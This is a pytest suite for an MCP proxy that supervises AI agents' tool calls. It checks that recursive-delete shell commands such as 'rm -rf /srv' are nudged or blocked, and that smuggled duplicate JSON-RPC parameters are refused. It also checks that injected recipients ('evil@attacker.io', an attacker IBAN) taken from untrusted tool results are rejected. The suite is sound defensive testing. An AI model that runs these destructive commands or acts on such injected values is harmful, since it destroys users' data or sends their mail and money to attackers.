"""`supervise mcp-proxy` between the mcp SDK's real client and a real SDK server (stdio).

The server (tests/data/mcp_server.py) appends every call it runs to a log file, which is how
these tests prove that a refused call never reached it.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import sys
import threading
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
import yaml

mcp = pytest.importorskip("mcp", reason="the mcp extra: pip install 'agent-supervise[mcp]'")

import anyio  # noqa: E402 - after the importorskip
import mcp_types  # noqa: E402
from mcp import ClientSession, StdioServerParameters, stdio_client  # noqa: E402
from mcp.shared.message import SessionMessage  # noqa: E402

from tests.conftest import ScriptedPlugin, artifact_text, entry_dict, recorded, taxonomy_doc  # noqa: E402

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[2]
SERVER = ROOT / "tests" / "data" / "mcp_server.py"
DOC = ROOT / "docs" / "hosts" / "mcp.md"
CORRECTION = "Do not delete recursively; move the files to a trash directory instead."
# The proxy as a client starts it; -c so that the test needs no console script on PATH.
SUPERVISE = [sys.executable, "-c", "from supervisor.cli import main; main()"]


def _taxonomy(tmp_path: Path) -> Path:
    """One regex entry on shell commands: recursive deletes are nudged, then blocked."""
    doc = {
        "schema_version": 1,
        "id": "mcp_test",
        "entries": [
            {
                "id": "recursive_delete",
                "title": "Recursive delete in a shell command",
                "description": "A shell command that deletes a directory tree.",
                "example": {"summary": "An agent deleted a home directory.", "source": "tests"},
                "severity": "high",
                "default_verdict": "nudge",
                "references": ["CWE-1188"],
                "detection": "deterministic",
                "applies_to": {"action_types": ["shell"]},
                "specialist": {
                    "kind": "regex",
                    "config": {"match": {"command": [r"\brm\s+-rf\b"]}},
                },
                "correction": {"first": CORRECTION},
                "escalate_after": 1,
            }
        ],
    }
    path = tmp_path / "mcp_test.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    return path


def _proxy(tmp_path: Path, *options: str, server: list[str] | None = None) -> list[str]:
    home = tmp_path / "home"
    log = tmp_path / "server.log"
    return [
        *SUPERVISE,
        "mcp-proxy",
        "-t",
        str(_taxonomy(tmp_path)),
        "--home",
        str(home),
        *options,
        "--",
        *(server or [sys.executable, str(SERVER), str(log)]),
    ]


def _ran(tmp_path: Path) -> list[dict[str, Any]]:
    """The calls the server ran, in order."""
    log = tmp_path / "server.log"
    if not log.exists():
        return []
    return [json.loads(line) for line in log.read_text().splitlines()]


def _text(result: Any) -> str:
    return "\n".join(block.text for block in result.content if block.type == "text")


def _params(command: list[str]) -> StdioServerParameters:
    return StdioServerParameters(command=command[0], args=command[1:], cwd=str(ROOT))


@asynccontextmanager
async def _raw_stdio(
    command: list[str], errlog: Any
) -> AsyncIterator[tuple[Any, Any, Callable[[bytes], Awaitable[None]], Any]]:
    """Like the SDK's stdio_client, plus a way to write raw bytes and the process itself."""
    process = await anyio.open_process(command, stderr=errlog, cwd=str(ROOT))
    assert process.stdin is not None
    assert process.stdout is not None
    stdin, stdout = process.stdin, process.stdout
    read_send, read_recv = anyio.create_memory_object_stream[SessionMessage | Exception](100)
    write_send, write_recv = anyio.create_memory_object_stream[SessionMessage](100)
    lock = anyio.Lock()

    async def write_raw(data: bytes) -> None:
        async with lock:
            await stdin.send(data)

    async def reader() -> None:
        buffer = b""
        async with read_send:
            async for chunk in stdout:
                buffer += chunk
                *lines, buffer = buffer.split(b"\n")
                for line in lines:
                    try:
                        message = mcp_types.jsonrpc_message_adapter.validate_json(
                            line, by_name=False
                        )
                    except ValueError as exc:
                        await read_send.send(exc)
                    else:
                        await read_send.send(SessionMessage(message))

    async def writer() -> None:
        async with write_recv:
            async for item in write_recv:
                dumped = item.message.model_dump_json(by_alias=True, exclude_unset=True)
                await write_raw(dumped.encode() + b"\n")

    async with process, anyio.create_task_group() as tg:
        tg.start_soon(reader)
        tg.start_soon(writer)
        try:
            yield read_recv, write_send, write_raw, process
        finally:
            await write_send.aclose()
            await stdin.aclose()
            with anyio.move_on_after(15):
                await process.wait()
            tg.cancel_scope.cancel()


# -- the whole path ---------------------------------------------------------------------


def test_calls_pass_nudge_and_block_through_a_real_client_and_server(tmp_path: Path) -> None:
    errlog = (tmp_path / "proxy.err").open("w")
    session_id = "mcp-test-session"
    long_name = "t" * 600  # longer than an Action allows: the supervisor itself fails

    async def scenario() -> dict[str, Any]:
        seen: dict[str, Any] = {}
        command = _proxy(tmp_path, "--session", session_id)
        async with (
            stdio_client(_params(command), errlog=errlog) as (read, write),
            ClientSession(read, write) as session,
        ):
            init = await session.initialize()
            seen["server"] = init.server_info.name
            tools = await session.list_tools()
            seen["tools"] = {t.name: t.description for t in tools.tools}
            seen["add"] = await session.call_tool("add", {"a": 20, "b": 22})
            seen["echo"] = await session.call_tool("run_shell", {"command": "echo hello"})
            seen["nudged"] = await session.call_tool("run_shell", {"command": "rm -rf /tmp/x"})
            seen["blocked"] = await session.call_tool("run_shell", {"command": "rm  -rf /tmp/x"})
            seen["big"] = await session.call_tool("big", {"size": 3_000_000})
            seen["long"] = await session.call_tool(
                "run_shell", {"command": "echo " + "a" * 500_000}
            )
            seen["failed"] = await session.call_tool(long_name, {})
            seen["ping"] = await session.send_ping()
        return seen

    seen = asyncio.run(scenario())
    errlog.close()
    stderr = (tmp_path / "proxy.err").read_text()

    # Everything that is not tools/call passes through as the server said it.
    assert seen["server"] == "proxy-test-server"
    assert set(seen["tools"]) >= {"run_shell", "add", "big", "crash"}
    assert "echoes it" in seen["tools"]["run_shell"]
    # Harmless calls run on the server and come back with its real results, large ones too.
    assert not seen["add"].is_error
    assert _text(seen["add"]) == "42"
    assert _text(seen["echo"]) == "ran: echo hello"
    assert len(_text(seen["big"])) == 3_000_000
    assert _text(seen["long"]) == "ran: echo " + "a" * 500_000
    # A nudge is an error result that carries the correction, for the model to act on.
    assert seen["nudged"].is_error
    assert CORRECTION in _text(seen["nudged"])
    # The same action again (whitespace aside) is blocked: refused, and the agent must replan.
    assert seen["blocked"].is_error
    blocked = _text(seen["blocked"])
    assert "Blocked by the supervisor" in blocked
    assert "replan" in blocked
    # When the supervisor fails, the call is refused (--on-error deny) and the text says why.
    assert seen["failed"].is_error
    assert "could not check this call, so it did not run" in _text(seen["failed"])
    assert "the supervisor failed on tools/call" in stderr
    # No refused call reached the server.
    ran = _ran(tmp_path)
    assert [c["tool"] for c in ran] == ["add", "run_shell", "big", "run_shell"]
    assert not any("rm" in c["arguments"].get("command", "")[:10] for c in ran)
    assert "nudge by recursive_delete" in stderr
    assert "block by recursive_delete" in stderr

    # Every call was decided in the configured session, and the tool's description from
    # tools/list reached the specialists' context.
    home = tmp_path / "home"
    decisions = recorded(home)
    assert [(d["action"]["tool"], d["verdict"]) for d in decisions] == [
        ("add", "ok"),
        ("run_shell", "ok"),
        ("run_shell", "nudge"),
        ("run_shell", "block"),
        ("big", "ok"),
        ("run_shell", "ok"),
    ]
    assert {d["session"] for d in decisions} == {session_id}
    assert "echoes it, runs nothing" in artifact_text(home)
    # The server runs where the proxy runs (ROOT): the facts of that directory were gathered.
    contexts = [json.loads(line)["context"] for line in artifact_text(home).splitlines()]
    assert {c["cwd"] for c in contexts} == {str(ROOT)}
    assert all({"cwd", "home", "platform"} <= set(c["gathered"]) for c in contexts)
    _check_outcomes(home, decisions)


def test_a_tool_is_judged_by_what_its_arguments_are(tmp_path: Path) -> None:
    """A tool whose name says nothing (``run``, ``ops``) is judged by its arguments: a ``cmd``
    by the default reading, an annotated parameter by the tools file; one decision each."""
    tools = tmp_path / "tools.yaml"
    tools.write_text("schema_version: 1\ntools:\n  ops:\n    action: shell\n    note: none\n")
    errlog = (tmp_path / "proxy.err").open("w")

    async def scenario() -> dict[str, Any]:
        seen: dict[str, Any] = {}
        command = _proxy(tmp_path, "--session", "s-args", "--tools", str(tools))
        async with (
            stdio_client(_params(command), errlog=errlog) as (read, write),
            ClientSession(read, write) as session,
        ):
            await session.initialize()
            seen["echo"] = await session.call_tool("run", {"cmd": "echo hi"})
            seen["run"] = await session.call_tool("run", {"cmd": "rm -rf /tmp/x"})
            seen["ops"] = await session.call_tool("ops", {"action": "rm -rf /srv"})
            seen["note"] = await session.call_tool("ops", {"action": "ls", "note": "rm -rf /"})
        return seen

    seen = asyncio.run(scenario())
    errlog.close()
    assert _text(seen["echo"]) == "ran: echo hi"
    assert seen["run"].is_error
    assert CORRECTION in _text(seen["run"])
    assert seen["ops"].is_error
    assert not seen["note"].is_error  # annotated `none`: a note is not run
    assert [c["arguments"] for c in _ran(tmp_path)] == [
        {"cmd": "echo hi"},
        {"action": "ls", "note": "rm -rf /"},
    ]
    # Each call's record lists what was read from it; each derived action has its own
    # record, which names the call's decision and the parameter it came from.
    decisions = recorded(tmp_path / "home")
    calls = [d for d in decisions if d["action"]["type"] == "tool_call"]
    derived = [d for d in decisions if d["action"]["type"] == "shell"]
    assert [d["action"]["tool"] for d in calls] == ["run", "run", "ops", "ops"]
    assert calls[1]["action"]["metadata"]["supervise_readings"] == [
        {"as": "shell", "parameters": ["cmd"], "by": "name"}
    ]
    assert [(d["action"]["args"]["command"], d["verdict"]) for d in derived] == [
        ("echo hi", "ok"),
        ("rm -rf /tmp/x", "nudge"),
        ("rm -rf /srv", "nudge"),
        ("ls", "ok"),
    ]
    link = derived[2]["action"]["metadata"]["supervise_derived_from"]
    assert link == {
        "tool": "ops",
        "as": "shell",
        "parameters": ["action"],
        "by": "annotation",
        "decision": calls[2]["decision_id"],
    }


def _check_outcomes(home: Path, decisions: list[dict[str, Any]]) -> None:
    """The post-action tier got each forwarded call's result; refused calls have none."""
    from supervisor.facade import Supervisor
    from supervisor.store import open_store

    if not hasattr(Supervisor, "after"):
        return  # the post-action tier is not there yet
    ids = [d["decision_id"] for d in decisions]
    store = open_store(None, home)
    try:
        outcomes = [store.outcome(i) for i in ids]
    finally:
        store.close()
    add, echo, nudged, blocked, big, _ = outcomes
    assert add is not None
    assert add[0] is True
    assert isinstance(add[1], dict)
    assert add[1]["structuredContent"] == {"result": 42}
    assert echo is not None
    assert echo[0] is True
    assert nudged is None
    assert blocked is None
    # A result too large for the store arrives as a summary of itself.
    assert big is not None
    assert isinstance(big[1], dict)
    assert big[1]["truncated"] is True


# -- robustness -----------------------------------------------------------------------------


def test_bad_client_lines_are_refused_and_the_server_exit_ends_the_proxy(tmp_path: Path) -> None:
    errlog = (tmp_path / "proxy.err").open("w")

    async def scenario() -> tuple[Any, Any, int]:
        async with _raw_stdio(_proxy(tmp_path), errlog) as (read, write, write_raw, process):
            async with ClientSession(read, write) as session:
                await session.initialize()
                await session.list_tools()  # lines 1-3: initialize, initialized, tools/list
                await write_raw(b"{this is not json\n")
                await write_raw(b"\xff\xfe not utf-8\n")
                # Parsers disagree on which duplicate wins: refused, never forwarded.
                await write_raw(
                    b'{"jsonrpc":"2.0","id":"dup","method":"tools/call","params":'
                    b'{"name":"add","arguments":{"a":1,"b":1}},"params":'
                    b'{"name":"run_shell","arguments":{"command":"echo smuggled"}}}\n'
                )
                # Nested past the limit (128): refused; 10,000 deep once crashed the proxy.
                for depth in (200, 10_000):
                    await write_raw(
                        b'{"jsonrpc":"2.0","id":"deep","method":"tools/call","params":'
                        b'{"name":"run_shell","arguments":{"command":"echo deep","x":'
                        + b"[" * depth
                        + b"]" * depth
                        + b"}}}\n"
                    )
                first = await session.call_tool("add", {"a": 1, "b": 2})
                second = await session.call_tool("run_shell", {"command": "echo still here"})
                # The server exits mid-call: the session ends, and so does the proxy.
                with pytest.raises(Exception):  # noqa: B017, PT011 - the connection is gone
                    with anyio.fail_after(20):
                        await session.call_tool("crash", {"code": 3})
            with anyio.fail_after(20):
                status = await process.wait()
        return first, second, status

    first, second, status = asyncio.run(scenario())
    errlog.close()
    stderr = (tmp_path / "proxy.err").read_text()
    assert _text(first) == "3"
    assert _text(second) == "ran: echo still here"
    assert "client line 4 is not JSON" in stderr, stderr
    assert "client line 5 is not JSON" in stderr, stderr
    assert "client line 6 gives the key 'params' more than once" in stderr, stderr
    assert "client line 7 nests objects and arrays deeper than 128 levels, at /params" in stderr
    assert "client line 8 nests objects and arrays deeper than 128 levels" in stderr, stderr
    assert [c["tool"] for c in _ran(tmp_path)] == ["add", "run_shell", "crash"]
    # The proxy exits with the server's status, and the server's stderr passed through it.
    assert status == 3
    assert "test server: exiting with status 3" in stderr


def _rpc(request_id: int, method: str, params: dict[str, Any] | None = None) -> bytes:
    message: dict[str, Any] = {"jsonrpc": "2.0", "id": request_id, "method": method}
    if params is not None:
        message["params"] = params
    return json.dumps(message).encode() + b"\n"


INITIALIZE = _rpc(
    1,
    "initialize",
    {
        "protocolVersion": "2025-06-18",
        "capabilities": {},
        "clientInfo": {"name": "raw-client", "version": "0"},
    },
)
INITIALIZED = b'{"jsonrpc":"2.0","method":"notifications/initialized"}\n'


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


# -- in process: a slow specialist, cancellation, --on-error allow, shutdown -----------------


def test_a_slow_check_holds_up_nothing_else(tmp_path: Path) -> None:
    """While a tools/call is checked, other requests pass and answer first; then the client
    cancels a call under check, a failing check is forwarded (allow), and closing the
    client's side stops the server."""
    from supervisor.adapters.mcp_proxy import McpProxy
    from supervisor.facade import Supervisor

    slow = entry_dict(
        "slow_check",
        specialist={
            "kind": "scripted",
            "config": {"behaviour": "sleep", "seconds": 1.5, "verdict": "ok"},
        },
        timeout_ms=10_000,
    )
    tax = tmp_path / "slow.yaml"
    tax.write_text(yaml.safe_dump(taxonomy_doc(slow, budgets_ms={"default": 20_000})))
    sup = Supervisor.from_taxonomy(tax, plugins=[ScriptedPlugin()], home=tmp_path / "home")
    server = [sys.executable, str(SERVER), str(tmp_path / "server.log")]
    proxy = McpProxy(sup, server, on_error="allow")
    client_r, proxy_w = os.pipe()
    proxy_r, client_w = os.pipe()
    answers: list[dict[str, Any]] = []
    status: list[int] = []

    def read_answers() -> None:
        with os.fdopen(client_r, "rb") as stream:
            answers.extend(json.loads(line) for line in stream)

    def answer(request_id: int) -> dict[str, Any]:
        deadline = time.monotonic() + 20
        while True:
            for message in list(answers):
                if message.get("id") == request_id:
                    return message
            assert time.monotonic() < deadline, f"no answer to {request_id}: {answers}"
            time.sleep(0.01)

    reader = threading.Thread(target=read_answers, daemon=True)
    runner = threading.Thread(
        target=lambda: status.append(asyncio.run(proxy.run(proxy_r, proxy_w))), daemon=True
    )
    reader.start()
    runner.start()
    try:
        os.write(client_w, INITIALIZE + INITIALIZED)
        answer(1)
        shell = {"name": "run_shell", "arguments": {"command": "echo slow"}}
        os.write(client_w, _rpc(2, "tools/call", shell) + _rpc(3, "tools/list"))
        os.write(client_w, _rpc(4, "tools/call", {"name": "add", "arguments": {"a": 1, "b": 1}}))
        assert answer(2)["result"]["content"][0]["text"] == "ran: echo slow"
        order = [m["id"] for m in answers if m.get("id") in (2, 3, 4)]
        assert order.index(3) < order.index(2), order
        assert order.index(4) < order.index(2), order

        # Cancelled while being checked: never forwarded, never answered.
        cancelled = {"name": "run_shell", "arguments": {"command": "echo cancelled"}}
        os.write(client_w, _rpc(5, "tools/call", cancelled))
        note = {"jsonrpc": "2.0", "method": "notifications/cancelled", "params": {"requestId": 5}}
        os.write(client_w, json.dumps(note).encode() + b"\n")
        # The supervisor fails on this one; on_error="allow" forwards it unchecked, so the
        # answer is the server's own (it has no such tool).
        os.write(client_w, _rpc(6, "tools/call", {"name": "t" * 600, "arguments": {}}))
        assert "could not check" not in json.dumps(answer(6))
        deadline = time.monotonic() + 20
        while proxy.stats.cancelled < 1:  # its check is over, and it was dropped
            assert time.monotonic() < deadline, "the cancelled call's check never ended"
            time.sleep(0.01)
        os.write(client_w, _rpc(7, "ping"))
        assert answer(7)["result"] == {}
        assert all(m.get("id") != 5 for m in answers)
        pid = int((tmp_path / "server.log.pid").read_text())
    finally:
        os.close(client_w)  # the client closes the session
        runner.join(timeout=30)
        ended = not runner.is_alive()
        os.close(proxy_r)
        os.close(proxy_w)
        reader.join(timeout=10)
        sup.close()
    assert ended
    assert status == [0]
    assert not _alive(pid), "the server outlived the session"
    ran = [c["arguments"] for c in _ran(tmp_path) if c["tool"] == "run_shell"]
    assert ran == [{"command": "echo slow"}]
    assert proxy.stats.errors == 1


def test_a_server_that_cannot_start_is_reported(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    from supervisor.adapters.mcp_proxy import McpProxy
    from supervisor.facade import Supervisor

    sup = Supervisor.from_taxonomy(_taxonomy(tmp_path), record=False)
    proxy = McpProxy(sup, ["no-such-mcp-server-binary", "--flag"])
    client_r, proxy_w = os.pipe()
    proxy_r, client_w = os.pipe()
    try:
        assert asyncio.run(proxy.run(proxy_r, proxy_w)) == 127
    finally:
        for fd in (client_r, proxy_w, proxy_r, client_w):
            os.close(fd)
        sup.close()
    assert "no-such-mcp-server-binary: command not found" in caplog.text


# -- the documentation ----------------------------------------------------------------------


def test_the_client_config_in_the_docs_names_the_proxy() -> None:
    text = DOC.read_text()
    blocks = re.findall(r"```json\n(.*?)```", text, flags=re.DOTALL)
    assert blocks, "docs/hosts/mcp.md has no ```json block"
    config = json.loads(blocks[0])
    servers = config["mcpServers"]
    assert servers
    for entry in servers.values():
        assert entry["command"] == "supervise"
        args = entry["args"]
        assert args[0] == "mcp-proxy"
        assert "--" in args
        assert args.index("--") < len(args) - 1
        # The options before -- are the proxy's own, and it accepts them.
        from click.testing import CliRunner

        from supervisor.cli import cli

        options = args[1 : args.index("--")]
        help_run = CliRunner().invoke(cli, ["mcp-proxy", *options, "--help"])
        assert help_run.exit_code == 0, help_run.output


def _provenance_taxonomy(tmp_path: Path) -> Path:
    """One ``provenance`` entry, nudging, on every action."""
    entry = entry_dict(
        "value_from_untrusted_content",
        applies_to={"action_types": ["*"]},
        specialist={"kind": "provenance", "config": {}},
    )
    taxonomy = tmp_path / "provenance.yaml"
    taxonomy.write_text(yaml.safe_dump(taxonomy_doc(entry, id="mcp_provenance"), sort_keys=False))
    return taxonomy


def test_a_value_seen_only_in_a_relayed_result_is_refused(tmp_path: Path) -> None:
    """The proxy keeps the results it relays as the session's transcript; ``--request`` is
    the user's request; a schema's ``format: email`` makes ``address`` a recipient."""
    taxonomy = _provenance_taxonomy(tmp_path)
    errlog = (tmp_path / "proxy.err").open("w")
    request = "Read my inbox and tell Bob@Example.com that lunch is at noon."

    async def scenario() -> dict[str, Any]:
        seen: dict[str, Any] = {}
        command = _proxy(tmp_path, "-t", str(taxonomy), "--request", request)
        async with (
            stdio_client(_params(command), errlog=errlog) as (read, write),
            ClientSession(read, write) as session,
        ):
            await session.initialize()
            await session.list_tools()
            seen["early"] = await session.call_tool(
                "send_email", {"address": "evil@attacker.io", "body": "Q3"}
            )
            await session.call_tool("read_inbox", {})
            seen["evil"] = await session.call_tool(
                "send_email", {"address": "EVIL@attacker.io", "body": "Q3"}
            )
            seen["bob"] = await session.call_tool(
                "send_email", {"address": "bob@example.com", "body": "Lunch at noon."}
            )
        return seen

    seen = asyncio.run(scenario())
    errlog.close()
    assert seen["early"].is_error
    assert "appears nowhere" in _text(seen["early"]) or "not in the user" in _text(seen["early"])
    assert seen["evil"].is_error
    assert "the result of read_inbox" in _text(seen["evil"])
    assert not seen["bob"].is_error
    assert [c["tool"] for c in _ran(tmp_path)] == ["read_inbox", "send_email"]
    decisions = recorded(tmp_path / "home")
    sends = [d for d in decisions if d["action"]["tool"] == "send_email"]
    assert sends[0]["action"]["metadata"]["supervise_sinks"] == {"address": "recipient"}


def test_structured_content_is_read_by_field(tmp_path: Path) -> None:
    """A result's ``structuredContent`` (MCP 2025-06-18) is read by field like a JSON result:
    the bank's ``recipient`` field vouches for an account, the payer's ``subject`` does not.
    The text block is only a summary, so without the structured content the account the
    user means would be found nowhere."""
    taxonomy = _provenance_taxonomy(tmp_path)
    tools = tmp_path / "tools.yaml"
    tools.write_text(
        yaml.safe_dump(
            {
                "schema_version": 1,
                "tools": {"pay": {"iban": "account", "amount": "amount"}},
                "results": {
                    "recent_transactions": {
                        "trust": "third_party",
                        "fields": {"recipient": "deployment", "amount": "deployment"},
                    }
                },
            }
        )
    )
    errlog = (tmp_path / "proxy.err").open("w")
    request = "Pay my landlord this month's rent, the same as last time."

    async def scenario() -> dict[str, Any]:
        seen: dict[str, Any] = {}
        command = _proxy(tmp_path, "-t", str(taxonomy), "--tools", str(tools), "--request", request)
        async with (
            stdio_client(_params(command), errlog=errlog) as (read, write),
            ClientSession(read, write) as session,
        ):
            await session.initialize()
            await session.list_tools()
            seen["listing"] = await session.call_tool("recent_transactions", {})
            seen["attacker"] = await session.call_tool(
                "pay", {"iban": "US133000000121212121212", "amount": 1100.0}
            )
            seen["landlord"] = await session.call_tool(
                "pay", {"iban": "DE89370400440532013000", "amount": 1100.0}
            )
        return seen

    seen = asyncio.run(scenario())
    errlog.close()
    assert seen["listing"].structured_content is not None
    assert seen["attacker"].is_error
    assert "the result of recent_transactions" in _text(seen["attacker"])
    assert not seen["landlord"].is_error, _text(seen["landlord"])
    assert [c["tool"] for c in _ran(tmp_path)] == ["recent_transactions", "pay"]
    decisions = recorded(tmp_path / "home")
    paid = [d for d in decisions if d["action"]["tool"] == "pay" and d["verdict"] == "ok"]
    assert "the field recipient of the result of recent_transactions" in json.dumps(paid[0])


def test_a_listing_looked_up_for_what_a_relayed_result_named_vouches_for_nothing(
    tmp_path: Path,
) -> None:
    """The proxy keeps what each call looked up (its ``lookup`` parameters) with its
    result: a trusted listing of the city a review named is that review's choice."""
    tools = tmp_path / "tools.yaml"
    tools.write_text(
        yaml.safe_dump(
            {
                "schema_version": 1,
                "tools": {"hotels_in_city": {"city": "lookup"}, "reserve": {"hotel": "recipient"}},
                "results": {"hotels_in_city": "deployment"},
            }
        )
    )
    errlog = (tmp_path / "proxy.err").open("w")
    request = "I'm off to London: check the reviews of the Riverside View Hotel and book a hotel."

    async def scenario() -> dict[str, Any]:
        seen: dict[str, Any] = {}
        command = _proxy(
            tmp_path,
            "-t",
            str(_provenance_taxonomy(tmp_path)),
            "--tools",
            str(tools),
            "--request",
            request,
        )
        async with (
            stdio_client(_params(command), errlog=errlog) as (read, write),
            ClientSession(read, write) as session,
        ):
            await session.initialize()
            await session.list_tools()
            await session.call_tool("hotel_reviews", {"hotel": "Riverside View Hotel"})
            await session.call_tool("hotels_in_city", {"city": "Paris"})
            seen["paris"] = await session.call_tool("reserve", {"hotel": "Luxury Palace"})
            await session.call_tool("hotels_in_city", {"city": "London"})
            seen["london"] = await session.call_tool("reserve", {"hotel": "London Luxury Hotel"})
        return seen

    seen = asyncio.run(scenario())
    errlog.close()
    assert seen["paris"].is_error
    paris = _text(seen["paris"])
    assert "the result of hotels_in_city (" in paris
    assert "looked up for 'Paris', which only the result of hotel_reviews" in paris
    assert not seen["london"].is_error, _text(seen["london"])
    assert [c["tool"] for c in _ran(tmp_path)][-1] == "reserve"
    assert [c["arguments"] for c in _ran(tmp_path) if c["tool"] == "reserve"] == [
        {"hotel": "London Luxury Hotel"}
    ]
